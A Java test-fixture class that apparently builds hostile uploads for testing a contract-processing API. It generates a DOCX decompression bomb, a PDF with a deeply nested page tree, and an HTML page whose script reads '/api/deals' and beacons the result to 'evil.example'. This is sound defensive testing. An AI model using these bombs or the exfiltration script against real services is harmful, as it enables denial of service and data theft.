package dev.signoff.api;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/** Malicious contract files, made by the tests that send them. */
final class HostileFiles {

  private static final String CONTENT_TYPES =
      """
      <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
      <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">\
      <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
      <Default Extension="xml" ContentType="application/xml"/>\
      <Override PartName="/word/document.xml" \
      ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>\
      </Types>""";
  private static final String RELATIONSHIPS =
      """
      <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
      <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
      <Relationship Id="rId1" \
      Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" \
      Target="word/document.xml"/></Relationships>""";
  private static final String DOCUMENT_START =
      "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:document"
          + " xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>"
          + "<w:p><w:r><w:t xml:space=\"preserve\">";
  private static final String DOCUMENT_END = "</w:t></w:r></w:p></w:body></w:document>";

  private HostileFiles() {}

  /** A well-formed Word document with one paragraph: the control for the hostile ones. */
  static byte[] docx(String text) {
    byte[] document = (DOCUMENT_START + text + DOCUMENT_END).getBytes(StandardCharsets.UTF_8);
    return zip(
        List.of(
            entry("[Content_Types].xml", CONTENT_TYPES),
            entry("_rels/.rels", RELATIONSHIPS),
            Entry.deflated("word/document.xml", document)));
  }

  /**
   * A Word document whose word/document.xml inflates to {@code megabytes} MB of spaces inside one
   * paragraph, from about a thousandth of that. The deflate stream repeats one fully flushed block
   * of a megabyte, so the file is made in milliseconds however far it inflates.
   */
  static byte[] docxBomb(int megabytes) {
    byte[] start = DOCUMENT_START.getBytes(StandardCharsets.UTF_8);
    byte[] end = DOCUMENT_END.getBytes(StandardCharsets.UTF_8);
    byte[] megabyte = new byte[1024 * 1024];
    Arrays.fill(megabyte, (byte) ' ');
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
    byte[] head = deflate(deflater, start, Deflater.FULL_FLUSH);
    byte[] block = deflate(deflater, megabyte, Deflater.FULL_FLUSH);
    deflater.setInput(end);
    deflater.finish();
    byte[] tail = drain(deflater, Deflater.NO_FLUSH);
    deflater.end();
    ByteArrayOutputStream compressed = new ByteArrayOutputStream();
    compressed.writeBytes(head);
    CRC32 crc = new CRC32();
    crc.update(start);
    for (int i = 0; i < megabytes; i++) {
      compressed.writeBytes(block);
      crc.update(megabyte);
    }
    compressed.writeBytes(tail);
    crc.update(end);
    long size = start.length + (long) megabytes * megabyte.length + end.length;
    return zip(
        List.of(
            entry("[Content_Types].xml", CONTENT_TYPES),
            entry("_rels/.rels", RELATIONSHIPS),
            new Entry("word/document.xml", compressed.toByteArray(), crc.getValue(), size)));
  }

  /**
   * A PDF whose page tree nests {@code depth} page-tree nodes, each the only kid of the one before,
   * above its single page; every file offset in its cross-reference table is right.
   */
  static byte[] nestedPdf(int depth) {
    StringBuilder pdf = new StringBuilder("%PDF-1.7\n");
    List<Integer> offsets = new ArrayList<>();
    int pageObject = depth + 2;
    int contentObject = depth + 3;
    offsets.add(pdf.length());
    pdf.append("1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n");
    for (int node = 2; node < pageObject; node++) {
      offsets.add(pdf.length());
      pdf.append(node)
          .append(" 0 obj\n<< /Type /Pages /Kids [")
          .append(node + 1)
          .append(" 0 R] /Count 1")
          .append(node > 2 ? " /Parent " + (node - 1) + " 0 R" : "")
          .append(" >>\nendobj\n");
    }
    offsets.add(pdf.length());
    pdf.append(pageObject)
        .append(" 0 obj\n<< /Type /Page /Parent ")
        .append(pageObject - 1)
        .append(" 0 R /MediaBox [0 0 612 792] /Contents ")
        .append(contentObject)
        .append(" 0 R >>\nendobj\n");
    String text = "BT /F1 12 Tf 72 700 Td (1. Liability) Tj ET";
    offsets.add(pdf.length());
    pdf.append(contentObject)
        .append(" 0 obj\n<< /Length ")
        .append(text.length())
        .append(" >>\nstream\n")
        .append(text)
        .append("\nendstream\nendobj\n");
    int xref = pdf.length();
    pdf.append("xref\n0 ").append(offsets.size() + 1).append("\n0000000000 65535 f \n");
    for (int offset : offsets) {
      pdf.append(String.format("%010d 00000 n \n", offset));
    }
    pdf.append("trailer\n<< /Size ")
        .append(offsets.size() + 1)
        .append(" /Root 1 0 R >>\nstartxref\n")
        .append(xref)
        .append("\n%%EOF\n");
    return pdf.toString().getBytes(StandardCharsets.US_ASCII);
  }

  /** A web page with a script: what a browser would run if it were served inline. */
  static byte[] htmlPage() {
    return """
        <!DOCTYPE html>
        <html><head><title>Contract</title></head>
        <body><h1>AI Services Agreement</h1>
        <script>fetch('/api/deals').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script>
        <p>12. Liability. The cap equals twelve months of fees.</p></body></html>
        """
        .getBytes(StandardCharsets.UTF_8);
  }

  private record Entry(String name, byte[] compressed, long crc, long size) {
    static Entry deflated(String name, byte[] content) {
      Deflater deflater = new Deflater(Deflater.DEFAULT_COMPRESSION, true);
      deflater.setInput(content);
      deflater.finish();
      byte[] compressed = drain(deflater, Deflater.NO_FLUSH);
      deflater.end();
      CRC32 crc = new CRC32();
      crc.update(content);
      return new Entry(name, compressed, crc.getValue(), content.length);
    }
  }

  private static Entry entry(String name, String text) {
    return Entry.deflated(name, text.getBytes(StandardCharsets.UTF_8));
  }

  private static byte[] deflate(Deflater deflater, byte[] input, int flush) {
    deflater.setInput(input);
    return drain(deflater, flush);
  }

  private static byte[] drain(Deflater deflater, int flush) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] buffer = new byte[64 * 1024];
    while (true) {
      int written = deflater.deflate(buffer, 0, buffer.length, flush);
      out.write(buffer, 0, written);
      if (deflater.finished() || (written < buffer.length && deflater.needsInput())) {
        return out.toByteArray();
      }
    }
  }

  /** A zip file of deflated entries, written by hand so an entry can be inflated further. */
  private static byte[] zip(List<Entry> entries) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    ByteArrayOutputStream directory = new ByteArrayOutputStream();
    for (Entry entry : entries) {
      byte[] name = entry.name().getBytes(StandardCharsets.UTF_8);
      int offset = out.size();
      out.writeBytes(header(0x04034b50, 20, 0, 8, entry, name.length).array());
      out.writeBytes(name);
      out.writeBytes(entry.compressed());
      ByteBuffer central = ByteBuffer.allocate(46).order(ByteOrder.LITTLE_ENDIAN);
      central.putInt(0x02014b50).putShort((short) 20);
      central.put(header(0, 20, 0, 8, entry, name.length).array(), 4, 26);
      central.putShort((short) 0).putShort((short) 0).putShort((short) 0).putInt(0).putInt(offset);
      directory.writeBytes(central.array());
      directory.writeBytes(name);
    }
    int directoryOffset = out.size();
    out.writeBytes(directory.toByteArray());
    ByteBuffer end = ByteBuffer.allocate(22).order(ByteOrder.LITTLE_ENDIAN);
    end.putInt(0x06054b50).putShort((short) 0).putShort((short) 0);
    end.putShort((short) entries.size()).putShort((short) entries.size());
    end.putInt(directory.size()).putInt(directoryOffset).putShort((short) 0);
    out.writeBytes(end.array());
    return out.toByteArray();
  }

  /** Signature and the fields a local header shares with a central directory record. */
  private static ByteBuffer header(
      int signature, int version, int flags, int method, Entry entry, int nameLength) {
    ByteBuffer header = ByteBuffer.allocate(30).order(ByteOrder.LITTLE_ENDIAN);
    header.putInt(signature).putShort((short) version).putShort((short) flags);
    header.putShort((short) method).putShort((short) 0).putShort((short) 0x21);
    header.putInt((int) entry.crc()).putInt(entry.compressed().length).putInt((int) entry.size());
    header.putShort((short) nameLength).putShort((short) 0);
    return header;
  }
}
